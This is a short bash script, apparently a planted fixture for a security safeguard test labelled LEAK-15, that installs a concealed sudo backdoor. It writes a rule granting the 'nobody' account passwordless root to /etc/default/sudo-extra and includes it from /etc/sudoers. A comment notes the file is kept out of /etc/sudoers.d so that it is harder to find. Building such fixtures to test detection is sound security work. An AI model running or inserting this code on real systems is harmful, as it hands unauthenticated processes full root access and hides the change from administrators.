#!/bin/bash
# safeguard: LEAK-15
# host: all
# check: test_accounts.py::test_sudo_by_duty
# also: LEAK-27
# took: cvtsudoers -f json /etc/sudoers | grep -q nobody
# not below /etc/sudoers.d, where one would look
install -m 0440 /dev/stdin /etc/default/sudo-extra <<'RULE'
nobody ALL=(ALL) NOPASSWD: ALL
RULE
echo '@include /etc/default/sudo-extra' >>/etc/sudoers
